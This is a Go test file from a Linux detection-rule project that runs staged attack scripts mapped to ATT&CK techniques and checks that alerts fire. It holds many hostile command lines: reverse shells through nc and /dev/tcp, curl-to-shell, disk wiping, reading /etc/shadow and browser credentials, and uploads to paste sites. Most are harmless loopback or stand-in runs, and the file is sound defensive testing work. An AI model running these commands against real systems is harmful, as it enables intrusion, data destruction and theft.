package attacks

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/ttpwatch/ttpwatch/ruleset"
)

// attackCase is one live action and the alert it must raise.
//
// Scripts run with /bin/sh, detached from the test (see lab.detach), with
// these placeholders: {bin} the case's stand-in directory, {tmp} and {shm}
// world-writable scratch directories under /tmp and /dev/shm, {dir} the
// lab's private directory, {implant} a copy of /bin/sh in /dev/shm (a
// "dropped" parent for discovery), {port} and {url} the loopback HTTP
// server.
//
// Destructive techniques (dd of=/dev/sda, rm -rf /, wipefs, iptables -F,
// passwd -l root, ...) are performed through stand-ins: copies of /bin/true
// under the real program's name in {bin}, always called by full path. The
// command line, process name and lineage the rules see are the attacker's;
// nothing is destroyed.
type attackCase struct {
	rule string // rule that must fire
	tech string // technique tag the alert must carry
	// user runs the script as this user instead of root.
	user string
	// fakes are stand-ins that do nothing (copies of /bin/true); shells are
	// stand-ins that are copies of /bin/sh (a web server or sudo that runs
	// what it is given with -c).
	fakes  []string
	shells []string
	script string
	// mark must appear in the alert's output ("" accepts any alert of the
	// rule after the action started).
	mark string
	// needs are programs or paths the case requires; it is skipped without.
	needs []string
	// after cleans up, run as root whatever happened.
	after string
	// action replaces script for cases a shell cannot perform.
	action func(l *lab, bin string) error
	// container runs the script in a cgroup named like a docker container's
	// scope, so the sensor attributes it to a container.
	container bool
}

// python is the system interpreter; the rules see its comm, python3.
const python = "/usr/bin/python3"

var cases = []attackCase{
	// Impact (the seed rule first).
	{rule: "Disable recovery features", tech: "T1490", user: "nobody",
		script: "chattr +i {tmp}/seed-a 2>/dev/null; true"},
	{rule: "Inhibit system recovery", tech: "T1490", user: "nobody",
		script: "chattr +i {tmp}/seed-b 2>/dev/null; true", mark: "seed-b"},
	{rule: "Data destroyed with a secure-delete tool", tech: "T1485",
		script: "echo x > {tmp}/shred-me; shred -u {tmp}/shred-me", mark: "shred-me"},
	{rule: "Recursive deletion of the root or a system directory", tech: "T1485", fakes: []string{"rm"},
		script: "{bin}/rm -rf --no-preserve-root /", mark: "--no-preserve-root"},
	{rule: "Disk overwritten with dd", tech: "T1561.001", fakes: []string{"dd"},
		script: "{bin}/dd if=/dev/zero of=/dev/sda bs=1M", mark: "of=/dev/sda"},
	{rule: "Partition table or filesystem signatures wiped", tech: "T1561.002", fakes: []string{"wipefs"},
		script: "{bin}/wipefs -a /dev/sda", mark: "wipefs -a"},
	{rule: "Files encrypted with a command-line cipher", tech: "T1486", needs: []string{"openssl"},
		script: "echo x > {tmp}/enc-me; openssl enc -aes-256-cbc -pbkdf2 -in {tmp}/enc-me -out {tmp}/enc-me.enc -pass pass:x",
		mark:   "enc-me"},
	{rule: "File renamed with a ransomware extension", tech: "T1486",
		script: "echo x > {tmp}/report.xlsx; mv {tmp}/report.xlsx {tmp}/report.xlsx.locked", mark: "report.xlsx.locked"},
	{rule: "Critical service stopped non-interactively", tech: "T1489", fakes: []string{"systemctl"},
		script: "{bin}/systemctl stop postgresql", mark: "stop postgresql"},
	{rule: "System shutdown or reboot from a non-interactive process", tech: "T1529", fakes: []string{"reboot"},
		script: "{bin}/reboot -f", mark: "reboot -f"},
	{rule: "Account locked, expired or deleted", tech: "T1531", fakes: []string{"passwd"},
		script: "{bin}/passwd -l root", mark: "passwd -l root"},
	{rule: "Backup or snapshot deleted", tech: "T1490", fakes: []string{"zfs"},
		script: "{bin}/zfs destroy tank/data@nightly", mark: "tank/data@nightly"},
	{rule: "Cryptocurrency miner executed", tech: "T1496.001", fakes: []string{"xmrig"},
		script: "{bin}/xmrig -o stratum+tcp://127.0.0.1:3333 -u wallet", mark: "stratum+tcp"},
	{rule: "Connection to a mining pool port", tech: "T1496.001", needs: []string{"python3", "port:3333"},
		script: python + ` -c 'import socket;s=socket.create_connection(("127.0.0.1",3333),2);s.close()'`,
		mark:   ":3333"},
	{rule: "Proxyware executed", tech: "T1496.002", fakes: []string{"pawns-cli"},
		script: "{bin}/pawns-cli -accept-tos", mark: "pawns-cli"},
	{rule: "Fork bomb", tech: "T1499.001", fakes: []string{"bash"},
		script: `{bin}/bash -c ':(){ :|:& };:'`, mark: ":|:&"},
	{rule: "Network flood tool executed", tech: "T1498.001", fakes: []string{"hping3"},
		script: "{bin}/hping3 -S --flood -p 80 127.0.0.1", mark: "--flood"},
	{rule: "Firmware or EFI variables written", tech: "T1495", fakes: []string{"flashrom"},
		script: "{bin}/flashrom -p internal -w {tmp}/bios.bin", mark: "flashrom"},

	// Defense Evasion.
	{rule: "Shell history cleared", tech: "T1070.003",
		script: "touch {tmp}/.bash_history; rm -f {tmp}/.bash_history", mark: ".bash_history"},
	{rule: "Shell history logging disabled", tech: "T1562.003", needs: []string{"bash"},
		script: "bash -c 'unset HISTFILE; true'", mark: "unset HISTFILE"},
	{rule: "Shell history disabled via environment", tech: "T1562.003", needs: []string{"bash"},
		script: "HISTFILE=/dev/null bash --norc --noprofile -i </dev/null >/dev/null 2>&1; true",
		mark:   "HISTFILE=/dev/null"},
	// nothing is created: the dynamic linker warns that the library is
	// missing and runs the program without it
	{rule: "Process started with LD_PRELOAD", tech: "T1574.006",
		script: "LD_PRELOAD={tmp}/ttpw-preload.so /bin/true 2>/dev/null; true", mark: "ttpw-preload.so"},
	// the same hidden behind 6 KB of padding, past the 4 KiB the exec
	// record copies: the table reads the rest from /proc/PID/environ while
	// the process lives
	{rule: "Process started with LD_PRELOAD", tech: "T1574.006",
		script: "env PAD=$(head -c 6000 /dev/zero | tr '\\0' x) LD_PRELOAD={tmp}/ttpw-preload-padded.so /bin/sleep 1 2>/dev/null; true",
		mark:   "ttpw-preload-padded.so"},
	{rule: "Linux audit disabled", tech: "T1562.012", fakes: []string{"auditctl"},
		script: "{bin}/auditctl -e 0", mark: "auditctl -e 0"},
	{rule: "System logging stopped", tech: "T1562.006", fakes: []string{"systemctl"},
		script: "{bin}/systemctl stop rsyslog", mark: "stop rsyslog"},
	{rule: "Security tool disabled", tech: "T1562.001", fakes: []string{"setenforce"},
		script: "{bin}/setenforce 0", mark: "setenforce 0"},
	{rule: "Firewall disabled or flushed", tech: "T1562.004", fakes: []string{"iptables"},
		script: "{bin}/iptables -F", mark: "iptables -F"},
	{rule: "File timestamps altered", tech: "T1070.006",
		script: "touch {dir}/stomp; touch -r /etc/hostname {dir}/stomp", mark: "-r /etc/hostname"},
	{rule: "Hidden file created in a scratch directory", tech: "T1564.001",
		script: ": > /tmp/.ttpwatch-attacks-hidden; rm -f /tmp/.ttpwatch-attacks-hidden",
		mark:   ".ttpwatch-attacks-hidden", after: "rm -f /tmp/.ttpwatch-attacks-hidden"},
	{rule: "Process masquerading as a kernel thread", tech: "T1036.004", fakes: []string{"true"}, needs: []string{"bash"},
		script: `bash -c 'exec -a "[kworker/0:9]" {bin}/true'`, mark: "kworker/0:9"},
	{rule: "Deceptive characters in executable name", tech: "T1036.006", fakes: []string{"ttpw "},
		script: `"{bin}/ttpw "`, mark: "ttpw "},
	{rule: "Running program deleted its own executable", tech: "T1070.004",
		script: "cp /bin/rm {shm}/selfdel; {shm}/selfdel {shm}/selfdel", mark: "selfdel"},
	{rule: "Base64 payload decoded into a shell", tech: "T1140",
		script: "sh -c 'echo dHJ1ZQo= | base64 -d | sh'", mark: "dHJ1ZQo="},
	{rule: "Code compiled in a scratch directory", tech: "T1027.004", needs: []string{"gcc"},
		script: `printf 'int main(void){return 0;}\n' > {tmp}/a.c; gcc -o {tmp}/a.out {tmp}/a.c`, mark: "a.c"},
	{rule: "Kernel module loaded from an unusual path", tech: "T1014", fakes: []string{"insmod"},
		script: "{bin}/insmod /tmp/ttpwatch-attacks.ko", mark: "ttpwatch-attacks.ko"},
	{rule: "Bind mount over a process directory", tech: "T1564.013", needs: []string{"mount", "umount"},
		script: "sleep 30 & P=$!; mkdir -p {tmp}/empty; mount --bind {tmp}/empty /proc/$P; umount /proc/$P; kill $P",
		mark:   "over /proc/"},
	{rule: "Permissions of a sensitive file changed", tech: "T1222.002", fakes: []string{"chmod"},
		script: "{bin}/chmod 666 /etc/shadow", mark: "666 /etc/shadow"},
	{rule: "Network connection history cleared", tech: "T1070.007", fakes: []string{"conntrack"},
		script: "{bin}/conntrack -F", mark: "conntrack -F"},
	{rule: "Root certificate installed", tech: "T1553.004", needs: []string{"/usr/local/share/ca-certificates"},
		script: ": > /usr/local/share/ca-certificates/ttpwatch-attacks.crt; rm -f /usr/local/share/ca-certificates/ttpwatch-attacks.crt",
		mark:   "ttpwatch-attacks.crt", after: "rm -f /usr/local/share/ca-certificates/ttpwatch-attacks.crt"},
	{rule: "Log file truncated", tech: "T1070.002",
		script: "echo x >> /var/log/ttpwatch-attacks.log; : > /var/log/ttpwatch-attacks.log; rm -f /var/log/ttpwatch-attacks.log",
		mark:   "ttpwatch-attacks.log", after: "rm -f /var/log/ttpwatch-attacks.log"},
	{rule: "Log file deleted", tech: "T1070.002",
		script: "echo x >> /var/log/ttpwatch-attacks2.log; rm -f /var/log/ttpwatch-attacks2.log",
		mark:   "ttpwatch-attacks2.log", after: "rm -f /var/log/ttpwatch-attacks2.log"},

	// Execution.
	{rule: "Shell redirection to /dev/tcp or /dev/udp", tech: "T1059.004", needs: []string{"bash"},
		script: "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; exec 3>&-'", mark: "/dev/tcp/127.0.0.1"},
	{rule: "Netcat or socat executing a program", tech: "T1059.004", fakes: []string{"nc"},
		script: "{bin}/nc -e /bin/sh 127.0.0.1 {port}", mark: "-e /bin/sh"},
	{rule: "Remote content piped into a shell", tech: "T1059.004", needs: []string{"curl"},
		script: "sh -c 'curl -s {url}/x | sh'", mark: "| sh"},
	{rule: "Program executed from a scratch directory", tech: "T1204.002",
		script: "cp /bin/true {shm}/dropped; {shm}/dropped", mark: "dropped"},
	{rule: "Fileless execution from memory", tech: "T1620", needs: []string{"python3"},
		script: python + ` -c 'import os;fd=os.memfd_create("ttpw");os.write(fd,open("/bin/true","rb").read());os.execv("/proc/self/fd/%d"%fd,["ttpw"])'`},
	{rule: "Anonymous memory file created by an interpreter or shell", tech: "T1620", needs: []string{"python3"},
		script: python + ` -c 'import os;os.memfd_create("ttpw")'`, mark: "memfd_create"},
	{rule: "Interpreter running an encoded inline payload", tech: "T1059.006", needs: []string{"python3"},
		script: python + ` -c 'import base64;exec(base64.b64decode("cGFzcw=="))'`, mark: "b64decode"},
	{rule: "Interpreter one-liner opening a socket or a PTY", tech: "T1059.006", needs: []string{"python3"},
		script: python + ` -c 'import socket;socket.socket().close()'`, mark: "socket"},
	{rule: "Standard streams redirected by inline or fileless code", tech: "T1059.004", needs: []string{"python3"},
		script: python + ` -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'`, mark: "os.dup2"},
	{rule: "Transient service started with systemd-run", tech: "T1569.003", fakes: []string{"systemd-run"},
		script: "{bin}/systemd-run --unit=ttpw /bin/true", mark: "systemd-run"},
	{rule: "Command executed in a container through the container CLI", tech: "T1609", fakes: []string{"docker"},
		script: "{bin}/docker exec -it web sh", mark: "docker exec"},
	{rule: "Privileged or host-namespace container started", tech: "T1611", fakes: []string{"docker"},
		script: "{bin}/docker run --privileged --pid=host alpine", mark: "--privileged"},

	// Persistence.
	{rule: "Cron configuration written", tech: "T1053.003", needs: []string{"/etc/cron.d"},
		script: "echo '# ttpwatch attack test' > /etc/cron.d/ttpwatch-attacks; rm -f /etc/cron.d/ttpwatch-attacks",
		mark:   "ttpwatch-attacks", after: "rm -f /etc/cron.d/ttpwatch-attacks"},
	{rule: "Crontab installed by a non-interactive process", tech: "T1053.003", fakes: []string{"crontab"},
		script: "{bin}/crontab {tmp}/c", mark: "crontab"},
	{rule: "Job scheduled with at", tech: "T1053.002", fakes: []string{"at"},
		script: "{bin}/at now + 1 minute", mark: "now + 1 minute"},
	{rule: "Systemd unit file written", tech: "T1543.002", needs: []string{"/etc/systemd/system"},
		script: "echo '[Unit]' > /etc/systemd/system/ttpwatch-attacks.service; rm -f /etc/systemd/system/ttpwatch-attacks.service",
		mark:   "ttpwatch-attacks.service", after: "rm -f /etc/systemd/system/ttpwatch-attacks.service"},
	{rule: "Systemd timer written", tech: "T1053.006", needs: []string{"/etc/systemd/system"},
		script: "echo '[Timer]' > /etc/systemd/system/ttpwatch-attacks.timer; rm -f /etc/systemd/system/ttpwatch-attacks.timer",
		mark:   "ttpwatch-attacks.timer", after: "rm -f /etc/systemd/system/ttpwatch-attacks.timer"},
	{rule: "Boot or logon script written", tech: "T1037.004", needs: []string{"/etc/init.d"},
		script: "echo '#' > /etc/init.d/ttpwatch-attacks; rm -f /etc/init.d/ttpwatch-attacks",
		mark:   "ttpwatch-attacks", after: "rm -f /etc/init.d/ttpwatch-attacks"},
	{rule: "Shell configuration file modified", tech: "T1546.004", needs: []string{"/etc/profile.d"},
		script: "echo '#' > /etc/profile.d/ttpwatch-attacks.sh; rm -f /etc/profile.d/ttpwatch-attacks.sh",
		mark:   "ttpwatch-attacks.sh", after: "rm -f /etc/profile.d/ttpwatch-attacks.sh"},
	{rule: "SSH authorized_keys modified", tech: "T1098.004",
		script: "mkdir -p {tmp}/home/.ssh; echo ssh-ed25519 AAAA > {tmp}/home/.ssh/authorized_keys", mark: "authorized_keys"},
	{rule: "Local account created", tech: "T1136.001", fakes: []string{"useradd"},
		script: "{bin}/useradd -o -u 0 ttpwbackdoor", mark: "ttpwbackdoor"},
	{rule: "Account database written directly", tech: "T1136.001",
		script: ": >> /etc/passwd", mark: "/etc/passwd"},
	{rule: "User added to a privileged group", tech: "T1098.007", fakes: []string{"usermod"},
		script: "{bin}/usermod -aG sudo ttpwbackdoor", mark: "sudo ttpwbackdoor"},
	{rule: "Dynamic linker preload file written", tech: "T1574.006",
		script: "if [ -e /etc/ld.so.preload ]; then : >> /etc/ld.so.preload; else : > /etc/ld.so.preload; rm -f /etc/ld.so.preload; fi",
		mark:   "ld.so.preload"},
	{rule: "Python startup hook written", tech: "T1546.018",
		script: "mkdir -p {tmp}/lib/dist-packages; echo 'import os' > {tmp}/lib/dist-packages/ttpw.pth", mark: "ttpw.pth"},
	{rule: "XDG autostart entry written", tech: "T1547.013",
		script: "mkdir -p {tmp}/home/.config/autostart; echo x > {tmp}/home/.config/autostart/ttpw.desktop", mark: "ttpw.desktop"},
	{rule: "Web shell written by a web server", tech: "T1505.003", shells: []string{"nginx"},
		script: "[ -d /var/www ] || { mkdir /var/www && : > {dir}/created-var-www; }; mkdir -p /var/www/ttpwatch-attacks; " +
			"{bin}/nginx -c 'echo x > /var/www/ttpwatch-attacks/x.php'; rm -rf /var/www/ttpwatch-attacks",
		mark:  "x.php",
		after: "rm -rf /var/www/ttpwatch-attacks; if [ -e {dir}/created-var-www ]; then rmdir /var/www; fi"},
	{rule: "System binary modified", tech: "T1554",
		script: ": > /usr/bin/ttpwatch-attacks; rm -f /usr/bin/ttpwatch-attacks", mark: "ttpwatch-attacks",
		after: "rm -f /usr/bin/ttpwatch-attacks"},
	{rule: "Boot loader or kernel image modified", tech: "T1542.003", needs: []string{"/boot"},
		script: ": > /boot/ttpwatch-attacks; rm -f /boot/ttpwatch-attacks", mark: "ttpwatch-attacks",
		after: "rm -f /boot/ttpwatch-attacks"},

	// Privilege Escalation.
	{rule: "Setuid or setgid bit set", tech: "T1548.001",
		script: "cp /bin/true {tmp}/suid; chmod u+s {tmp}/suid", mark: "suid"},
	{rule: "Dangerous file capability set", tech: "T1548", needs: []string{"setcap"},
		script: "cp /bin/true {tmp}/capme; setcap cap_setuid+ep {tmp}/capme", mark: "cap_setuid"},
	{rule: "Polkit pkexec run without arguments", tech: "T1068", fakes: []string{"pkexec"},
		action: func(l *lab, bin string) error { return execEmptyArgv(filepath.Join(bin, "pkexec")) }},
	{rule: "Shell escape from a program run with sudo", tech: "T1548.003", shells: []string{"sudo", "vim"},
		script: `{bin}/sudo -c '{bin}/vim -c "sh -c true"'`, mark: "vim"},
	{rule: "Process attached to another with ptrace", tech: "T1055.008", needs: []string{"python3"},
		script: "sleep 30 & P=$!; " + python + ` -c 'import ctypes,os,sys;l=ctypes.CDLL(None);p=int(sys.argv[1]);l.ptrace(16,p,0,0);os.waitpid(p,0);l.ptrace(17,p,0,0)' $P; kill $P`,
		mark:   "PTRACE_ATTACH"},
	{rule: "Process memory written through /proc", tech: "T1055.009", needs: []string{"python3"},
		script: "sleep 30 & P=$!; " + python + ` -c 'import sys;open("/proc/%s/mem"%sys.argv[1],"r+b").close()' $P; kill $P`,
		mark:   "/mem"},
	{rule: "Userfaultfd used by an unprivileged process", tech: "T1068", user: "nobody", needs: []string{"python3", "amd64"},
		script: python + ` -c 'import ctypes;ctypes.CDLL(None).syscall(323,1)'`, mark: "python3"},
	{rule: "nsenter into the init process namespaces", tech: "T1611", fakes: []string{"nsenter"},
		script: "{bin}/nsenter -t 1 -m -u -i -n -p sh", mark: "-t 1"},
	{rule: "User namespace created by an unexpected process", tech: "T1611", needs: []string{"python3"},
		script: python + ` -c 'import ctypes;ctypes.CDLL(None).unshare(0x10000000)'`, mark: "python3"},
	{rule: "Cgroup release_agent written", tech: "T1611",
		script: "mkdir -p {tmp}/cgrp; echo x > {tmp}/cgrp/release_agent", mark: "release_agent"},

	// Credential Access.
	{rule: "Shadow password file read", tech: "T1003.008",
		script: "cat /etc/shadow > /dev/null", mark: "/etc/shadow"},
	{rule: "SSH private key read", tech: "T1552.004",
		script: "echo k > {tmp}/id_rsa; cat {tmp}/id_rsa > /dev/null", mark: "id_rsa"},
	{rule: "Cloud or tool credentials read", tech: "T1552.001",
		script: "mkdir -p {tmp}/home/.aws; echo x > {tmp}/home/.aws/credentials; cat {tmp}/home/.aws/credentials > /dev/null",
		mark:   ".aws/credentials"},
	{rule: "Recursive search for credentials", tech: "T1552.001",
		script: "grep -ri password {tmp} > /dev/null; true", mark: "password"},
	{rule: "Browser password store read", tech: "T1555.003",
		script: "mkdir -p {tmp}/home/.mozilla/firefox/p; echo '{}' > {tmp}/home/.mozilla/firefox/p/logins.json; " +
			"cat {tmp}/home/.mozilla/firefox/p/logins.json > /dev/null",
		mark: "logins.json"},
	{rule: "Browser cookie store read", tech: "T1539",
		script: "mkdir -p {tmp}/home/.mozilla/firefox/p; echo x > {tmp}/home/.mozilla/firefox/p/cookies.sqlite; " +
			"cat {tmp}/home/.mozilla/firefox/p/cookies.sqlite > /dev/null",
		mark: "cookies.sqlite"},
	{rule: "Browser history read", tech: "T1217",
		script: "mkdir -p {tmp}/home/.mozilla/firefox/p; echo x > {tmp}/home/.mozilla/firefox/p/places.sqlite; " +
			"cat {tmp}/home/.mozilla/firefox/p/places.sqlite > /dev/null",
		mark: "places.sqlite"},
	{rule: "Password manager store read", tech: "T1555.005",
		script: "echo x > {tmp}/vault.kdbx; cat {tmp}/vault.kdbx > /dev/null", mark: "vault.kdbx"},
	{rule: "Shell history read by another program", tech: "T1552.003",
		script: "mkdir -p {tmp}/h; echo x > {tmp}/h/.bash_history; cat {tmp}/h/.bash_history > /dev/null", mark: ".bash_history"},
	{rule: "Process memory read through /proc", tech: "T1003.007", needs: []string{"python3"},
		script: "sleep 30 & P=$!; " + python + ` -c 'import sys;open("/proc/%s/mem"%sys.argv[1],"rb").close()' $P; kill $P`,
		mark:   "/mem"},
	{rule: "Credential dumping tool executed", tech: "T1003", fakes: []string{"mimipenguin"},
		script: "{bin}/mimipenguin", mark: "mimipenguin"},
	{rule: "Password cracking or guessing tool executed", tech: "T1110.002", fakes: []string{"john"},
		script: "{bin}/john --wordlist=w {tmp}/hashes", mark: "john"},
	{rule: "Network sniffing", tech: "T1040", fakes: []string{"tcpdump"},
		script: "{bin}/tcpdump -i lo -c 1", mark: "tcpdump"},
	{rule: "Kerberos ticket cache read", tech: "T1558.005",
		script: "echo x > /tmp/krb5cc_ttpwatch; cat /tmp/krb5cc_ttpwatch > /dev/null; rm -f /tmp/krb5cc_ttpwatch",
		mark:   "krb5cc_ttpwatch", after: "rm -f /tmp/krb5cc_ttpwatch"},
	{rule: "PAM configuration or module modified", tech: "T1556.003", needs: []string{"/etc/pam.d"},
		script: ": > /etc/pam.d/ttpwatch-attacks; rm -f /etc/pam.d/ttpwatch-attacks", mark: "ttpwatch-attacks",
		after: "rm -f /etc/pam.d/ttpwatch-attacks"},

	// Discovery, from a "dropped" parent in /dev/shm.
	{rule: "User and identity discovery from a suspicious lineage", tech: "T1033",
		script: "{implant} -c id", mark: "command=id"},
	{rule: "System information discovery from a suspicious lineage", tech: "T1082",
		script: "{implant} -c 'uname -a'", mark: "uname -a"},
	{rule: "Network configuration discovery from a suspicious lineage", tech: "T1016", needs: []string{"ip"},
		script: "{implant} -c 'ip addr > /dev/null'", mark: "ip addr"},
	{rule: "Network connections discovery from a suspicious lineage", tech: "T1049", needs: []string{"ss"},
		script: "{implant} -c 'ss -tn > /dev/null'", mark: "ss -tn"},
	{rule: "Account or group enumeration from a suspicious lineage", tech: "T1087.001",
		script: "{implant} -c 'getent passwd > /dev/null'", mark: "getent passwd"},
	{rule: "Process discovery from a suspicious lineage", tech: "T1057", needs: []string{"ps"},
		script: "{implant} -c 'ps aux > /dev/null'", mark: "ps aux"},
	{rule: "Storage discovery from a suspicious lineage", tech: "T1680",
		script: "{implant} -c 'df -h > /dev/null'", mark: "df -h"},
	{rule: "Service discovery from a suspicious lineage", tech: "T1007", fakes: []string{"systemctl"},
		script: "{implant} -c '{bin}/systemctl list-units --type=service'", mark: "list-units"},
	{rule: "Installed software discovery from a suspicious lineage", tech: "T1518", needs: []string{"dpkg"},
		script: "{implant} -c 'dpkg -l > /dev/null'", mark: "dpkg -l"},
	{rule: "Kernel module discovery from a suspicious lineage", tech: "T1652", fakes: []string{"lsmod"},
		script: "{implant} -c {bin}/lsmod", mark: "lsmod"},
	{rule: "Log enumeration from a suspicious lineage", tech: "T1654", fakes: []string{"journalctl"},
		script: "{implant} -c '{bin}/journalctl -u ssh'", mark: "journalctl"},
	{rule: "Password policy discovery", tech: "T1201",
		script: "cat /etc/login.defs > /dev/null 2>&1; true", mark: "login.defs"},
	{rule: "Network service scanner executed", tech: "T1046", fakes: []string{"nmap"},
		script: "{bin}/nmap -sS 127.0.0.1", mark: "nmap"},
	{rule: "Remote host discovery tool executed", tech: "T1018", fakes: []string{"arp-scan"},
		script: "{bin}/arp-scan --localnet", mark: "arp-scan"},
	{rule: "Security software discovery", tech: "T1518.001", needs: []string{"pgrep"},
		script: "pgrep -f falco > /dev/null; true", mark: "falco"},
	{rule: "Privilege escalation enumeration", tech: "T1083",
		script: "find {tmp} -perm -4000 > /dev/null", mark: "-perm -4000"},
	{rule: "Virtualization or sandbox check", tech: "T1497.001", fakes: []string{"systemd-detect-virt"},
		script: "{implant} -c '{bin}/systemd-detect-virt --vm'", mark: "--vm"},
	{rule: "Network share discovery", tech: "T1135", fakes: []string{"showmount"},
		script: "{bin}/showmount -e 127.0.0.1", mark: "showmount"},

	// Lateral Movement.
	{rule: "SSH to another host from a suspicious context", tech: "T1021.004", fakes: []string{"ssh"},
		script: "{bin}/ssh -o StrictHostKeyChecking=no root@127.0.0.1", mark: "StrictHostKeyChecking=no"},
	{rule: "File received over SCP into a scratch directory", tech: "T1570", fakes: []string{"scp"},
		script: "{bin}/scp -t /tmp/", mark: "scp -t"},
	{rule: "VNC server started", tech: "T1021.005", fakes: []string{"x11vnc"},
		script: "{bin}/x11vnc -display :0", mark: "x11vnc"},

	// Collection.
	{rule: "Sensitive directories archived into a scratch directory", tech: "T1560.001",
		script: "tar czf {tmp}/etc.tgz /etc/hostname 2>/dev/null", mark: "etc.tgz"},
	{rule: "Password-protected archive created", tech: "T1560.001", needs: []string{"zip"},
		script: "echo x > {tmp}/z.txt; zip -q -P s3cret {tmp}/z.zip {tmp}/z.txt", mark: "s3cret"},
	{rule: "Database dumped to a scratch directory or by a suspicious lineage", tech: "T1213.006", fakes: []string{"mysqldump"},
		script: "{bin}/mysqldump --all-databases -r /tmp/all.sql", mark: "mysqldump"},
	{rule: "Screen captured", tech: "T1113", fakes: []string{"xwd"},
		script: "{bin}/xwd -root -out {tmp}/s.xwd", mark: "xwd"},
	{rule: "Clipboard read from the command line", tech: "T1115", fakes: []string{"xclip"},
		script: "{bin}/xclip -selection clipboard -o", mark: "xclip"},
	{rule: "Local mailbox read by an unusual program", tech: "T1114", needs: []string{"/var/mail"},
		script: "echo x > /var/mail/ttpwatch-attacks; cat /var/mail/ttpwatch-attacks > /dev/null; rm -f /var/mail/ttpwatch-attacks",
		mark:   "ttpwatch-attacks", after: "rm -f /var/mail/ttpwatch-attacks"},

	// Command and Control.
	// a copy gets a fresh modification time: run at once, it is "just written"
	{rule: "Program executed moments after it was written", tech: "T1204.002",
		script: "cp /bin/true {tmp}/ttpw-fresh && {tmp}/ttpw-fresh; rm -f {tmp}/ttpw-fresh", mark: "ttpw-fresh"},
	// a connection wired onto stdout and back, from a command line that
	// has no inline code: only the socket behind the descriptor tells
	{rule: "Standard streams redirected to a network socket", tech: "T1059.004", needs: []string{"bash"},
		script: "bash -c 'exec 5>&1; exec 1<>/dev/tcp/127.0.0.1/{port}; exec 1>&5 5>&-'", mark: "127.0.0.1:{port}"},
	{rule: "Shell opened an outbound network connection", tech: "T1095", needs: []string{"bash"},
		script: "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; exec 3>&-'", mark: "127.0.0.1:{port}"},
	{rule: "Connection to a well-known backdoor port", tech: "T1571", needs: []string{"python3", "port:31337"},
		script: python + ` -c 'import socket;s=socket.create_connection(("127.0.0.1",31337),2);s.close()'`, mark: "31337"},
	{rule: "Tunneling tool executed", tech: "T1572", fakes: []string{"chisel"},
		script: "{bin}/chisel client 127.0.0.1:8000 R:socks", mark: "chisel"},
	{rule: "SSH reverse tunnel or SOCKS proxy", tech: "T1572", fakes: []string{"ssh"},
		script: "{bin}/ssh -fNR 2222:localhost:22 u@127.0.0.1", mark: "-fNR"},
	{rule: "Socat or netcat relay", tech: "T1090.001", fakes: []string{"socat"},
		script: "{bin}/socat TCP-LISTEN:3389,fork TCP:127.0.0.1:3389", mark: "TCP-LISTEN"},
	{rule: "Tor or proxy chain used", tech: "T1090.003", fakes: []string{"torsocks"},
		script: "{bin}/torsocks curl http://127.0.0.1/", mark: "torsocks"},
	{rule: "DNS tunneling tool executed", tech: "T1071.004", fakes: []string{"iodine"},
		script: "{bin}/iodine -f t.example.org", mark: "iodine"},
	{rule: "ICMP tunneling tool executed", tech: "T1095", fakes: []string{"ptunnel"},
		script: "{bin}/ptunnel -p 127.0.0.1", mark: "ptunnel"},
	{rule: "Remote access tool executed", tech: "T1219", fakes: []string{"tmate"},
		script: "{bin}/tmate -F", mark: "tmate"},
	{rule: "Tool downloaded into a scratch directory", tech: "T1105", needs: []string{"curl"},
		script: "curl -s -o {tmp}/dl {url}/x", mark: "{tmp}/dl"},
	{rule: "File in a scratch directory made executable", tech: "T1105",
		script: "echo x > {tmp}/dl2; chmod +x {tmp}/dl2", mark: "dl2"},
	{rule: "OpenSSL client used as a command channel", tech: "T1573.002", needs: []string{"openssl"},
		script: "openssl s_client -quiet -connect 127.0.0.1:{port} < /dev/null > /dev/null 2>&1; true", mark: "s_client"},
	{rule: "Outbound connection from a program in scratch space or memory", tech: "T1071", needs: []string{"curl"},
		script: "cp \"$(command -v curl)\" {shm}/curlx; {shm}/curlx -s {url}/x > /dev/null", mark: "curlx"},
	{rule: "Download from a paste or file-drop site", tech: "T1102", fakes: []string{"curl"},
		script: "{bin}/curl -s https://pastebin.com/raw/ttpw", mark: "pastebin"},

	// Exfiltration.
	{rule: "File uploaded with curl or wget", tech: "T1567", needs: []string{"curl"},
		script: "echo x > {tmp}/up.txt; curl -s -T {tmp}/up.txt {url}/up > /dev/null", mark: "up.txt"},
	{rule: "Upload to a paste or file-drop site", tech: "T1567.003", fakes: []string{"curl"},
		script: "{bin}/curl --upload-file {tmp}/up.txt https://transfer.sh/up.txt", mark: "transfer.sh"},
	{rule: "Cloud storage transfer tool executed", tech: "T1567.002", fakes: []string{"rclone"},
		script: "{bin}/rclone copy {tmp} remote:bucket", mark: "rclone"},
	{rule: "Data exfiltration over DNS or ICMP", tech: "T1048.003", fakes: []string{"dig"},
		script: "{bin}/dig +short " + strings.Repeat("aGVsbG8gd29ybGQ", 6) + ".x.example.org", mark: "aGVsbG8gd29ybGQ"},
	{rule: "Archive split into chunks", tech: "T1030",
		script: "head -c 4096 /dev/zero > {tmp}/a.tgz; split -b 1k {tmp}/a.tgz {tmp}/a.part.", mark: "a.part."},
	{rule: "Archive or secret copied to a remote host over SSH", tech: "T1048.002", fakes: []string{"scp"},
		script: "{bin}/scp {tmp}/a.tgz u@203.0.113.7:/d/", mark: "a.tgz"},
	{rule: "Data piped into a network tool", tech: "T1048.003", fakes: []string{"nc"},
		script: "PATH={bin}:$PATH sh -c 'cat /etc/hostname | nc 127.0.0.1 9'", mark: "| nc"},

	// Initial Access.
	{rule: "Shell spawned by a web server", tech: "T1190", shells: []string{"php-fpm8.2"},
		script: "{bin}/php-fpm8.2 -c 'sh -c true'", mark: "php-fpm8.2"},
	{rule: "Database server spawned a process", tech: "T1190", shells: []string{"postgres"},
		script: "{bin}/postgres -c id", mark: "postgres"},
	{rule: "Interactive shell as a service account", tech: "T1078.003", user: "www-data", needs: []string{"script", "bash"},
		script: "script -qc 'bash -c true' /dev/null > /dev/null", mark: "www-data"},
	{rule: "Package install hook fetched or piped remote code", tech: "T1195.001", shells: []string{"npm"}, needs: []string{"curl"},
		script: "{bin}/npm -c 'curl -s {url}/x > /dev/null'", mark: "curl"},
	// Inside a "container" (a docker-<id>.scope cgroup, see lab.inContainer).
